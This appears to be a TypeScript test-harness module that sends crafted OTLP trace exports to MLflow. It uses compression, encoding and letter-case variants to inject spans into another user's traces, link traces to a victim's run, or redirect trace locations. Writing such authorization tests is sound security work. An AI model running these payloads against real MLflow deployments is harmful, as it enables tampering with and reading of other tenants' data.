import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import type { Attack, AttackContext } from '../harness/attack.js';
import { tracesUnderRun } from '../harness/links.js';
import { otlpProtobuf } from '../harness/otlp-proto.js';
import { newTraceHex, otlpJson } from '../harness/world.js';
import { hexOf, locationTags, readTrace, victimTraceLocation } from './traces.js';

/*
 * Class 3 continued: OTLP exports as exporters really send them, compressed, with the run header,
 * and with location tags carried by resource attributes or in other letter cases. MLflow reads
 * `Content-Encoding` case-insensitively, deflate with or without its zlib wrapper.
 */
type Compression = 'gzip' | 'deflate' | 'raw deflate';

interface Export {
  readonly encoding: 'json' | 'protobuf';
  readonly compression?: Compression;
  /** The Content-Encoding header as sent; the compression's own name by default. */
  readonly contentEncoding?: string;
  readonly traceHex: (ctx: AttackContext) => string;
  readonly spanAttributes?: (ctx: AttackContext) => Record<string, string>;
  readonly resourceAttributes?: (ctx: AttackContext) => Record<string, string>;
  /** Sent as X-Mlflow-Run-Id. */
  readonly runId?: (ctx: AttackContext) => string;
}

function compress(body: string | Uint8Array, how: Compression | undefined): string | Uint8Array {
  if (how === 'gzip') return gzipSync(body);
  if (how === 'deflate') return deflateSync(body);
  if (how === 'raw deflate') return deflateRawSync(body);
  return body;
}

async function exportSpans(ctx: AttackContext, spec: Export): Promise<string> {
  const hex = spec.traceHex(ctx);
  const attributes = spec.spanAttributes?.(ctx) ?? {};
  const resource = spec.resourceAttributes?.(ctx) ?? {};
  const body = spec.encoding === 'json' ? otlpJson(hex, 'mallory-span', attributes, resource) : otlpProtobuf(hex, 'mallory-span', attributes, resource);
  const encoding = spec.contentEncoding ?? (spec.compression === 'raw deflate' ? 'deflate' : spec.compression);
  await ctx.attack('POST', '/v1/traces', {
    raw: compress(body, spec.compression),
    headers: {
      'content-type': spec.encoding === 'json' ? 'application/json' : 'application/x-protobuf',
      'x-mlflow-experiment-id': await ctx.own.experiment(),
      ...(encoding ? { 'content-encoding': encoding } : {}),
      ...(spec.runId ? { 'x-mlflow-run-id': spec.runId(ctx) } : {}),
    },
  });
  return `tr-${hex}`;
}

const otlp = (name: string, control: Attack['control'], spec: Export, after?: (ctx: AttackContext, traceId: string) => Promise<void>): Attack => ({
  name,
  class: '3 OTLP export',
  control,
  async run(ctx) {
    const traceId = await exportSpans(ctx, spec);
    await after?.(ctx, traceId);
  },
});

const intoVictimTrace = (ctx: AttackContext) => hexOf(ctx.target.storeTraceId);
const intoArtifactTrace = (ctx: AttackContext) => hexOf(ctx.target.artifactTraceId);
const fresh = () => newTraceHex();

/** MLflow links every trace the export completes to the run in the header. */
async function flagIfUnderVictimRun(ctx: AttackContext, traceId: string): Promise<void> {
  if ((await tracesUnderRun(ctx.mlflow, await ctx.own.experiment(), ctx.target.runId)).includes(traceId))
    ctx.flag(`trace ${traceId} of mallory's is linked to S's run ${ctx.target.runId}`);
}

const victimRun = (ctx: AttackContext) => ctx.target.runId;
/** Both location tags under `prefix`, their keys passed through `spell`. */
const tagsAs = (prefix: string, spell: (key: string) => string = (key) => key) => (ctx: AttackContext) => ({
  [`${prefix}${spell('mlflow.artifactLocation')}`]: victimTraceLocation(ctx),
  [`${prefix}${spell('mlflow.trace.spansLocation')}`]: 'ARTIFACT_REPO',
});
const upper = (key: string) => key.toUpperCase();

export const otlpExportAttacks: Attack[] = [
  otlp('OTLP JSON new trace in M, X-Mlflow-Run-Id of S run', 'direct', { encoding: 'json', traceHex: fresh, runId: victimRun }, flagIfUnderVictimRun),
  otlp('OTLP protobuf new trace in M, X-Mlflow-Run-Id of S run', 'direct', { encoding: 'protobuf', traceHex: fresh, runId: victimRun }, flagIfUnderVictimRun),
  otlp('OTLP protobuf gzip new trace in M, X-Mlflow-Run-Id of S run', 'direct', { encoding: 'protobuf', compression: 'gzip', traceHex: fresh, runId: victimRun }, flagIfUnderVictimRun),

  otlp('OTLP JSON gzip spans into S trace id, header M', 'direct', { encoding: 'json', compression: 'gzip', traceHex: intoVictimTrace }),
  otlp('OTLP protobuf gzip spans into S trace id, header M', 'direct', { encoding: 'protobuf', compression: 'gzip', traceHex: intoVictimTrace }),
  otlp('OTLP protobuf deflate spans into S trace id, header M', 'direct', { encoding: 'protobuf', compression: 'deflate', traceHex: intoVictimTrace }),
  otlp('OTLP JSON raw deflate spans into S trace id, header M', 'direct', { encoding: 'json', compression: 'raw deflate', traceHex: intoVictimTrace }),
  otlp('OTLP protobuf gzip spans into S trace id, Content-Encoding GZIP (upper case)', 'direct', {
    encoding: 'protobuf',
    compression: 'gzip',
    contentEncoding: 'GZIP',
    traceHex: intoVictimTrace,
  }),
  otlp('OTLP JSON deflate spans into S artifact-backed trace id, header M', 'direct', { encoding: 'json', compression: 'deflate', traceHex: intoArtifactTrace }),

  otlp('OTLP JSON gzip new trace whose root span sets artifactLocation+spansLocation to S trace', 'direct', { encoding: 'json', compression: 'gzip', traceHex: fresh, spanAttributes: locationTags }, readTrace),
  otlp('OTLP protobuf deflate new trace whose root span sets artifactLocation+spansLocation to S trace', 'direct', {
    encoding: 'protobuf',
    compression: 'deflate',
    traceHex: fresh,
    spanAttributes: locationTags,
  }, readTrace),
  // MLflow's tag prefix and its tag keys compare case-sensitively on SQLite; kept for databases that do not.
  otlp('OTLP JSON gzip root span MLFLOW.traceTag.mlflow.artifactLocation (upper-case prefix)', 'mlflow-refuses', {
    encoding: 'json',
    compression: 'gzip',
    traceHex: fresh,
    spanAttributes: tagsAs('MLFLOW.traceTag.'),
  }, readTrace),
  otlp('OTLP protobuf root span mlflow.traceTag.MLFLOW.ARTIFACTLOCATION+SPANSLOCATION (upper-case keys)', 'mlflow-refuses', {
    encoding: 'protobuf',
    traceHex: fresh,
    spanAttributes: tagsAs('mlflow.traceTag.', upper),
  }, readTrace),
  // MLflow keeps resource attributes as trace tags but skips the `mlflow.` namespace (case-sensitively).
  otlp('OTLP JSON gzip resource attributes mlflow.artifactLocation+spansLocation to S trace', 'mlflow-refuses', {
    encoding: 'json',
    compression: 'gzip',
    traceHex: fresh,
    resourceAttributes: tagsAs(''),
  }, readTrace),
  otlp('OTLP protobuf deflate resource attributes MLFLOW.ARTIFACTLOCATION+SPANSLOCATION (upper case) to S trace', 'mlflow-refuses', {
    encoding: 'protobuf',
    compression: 'deflate',
    traceHex: fresh,
    resourceAttributes: tagsAs('', upper),
  }, readTrace),
];
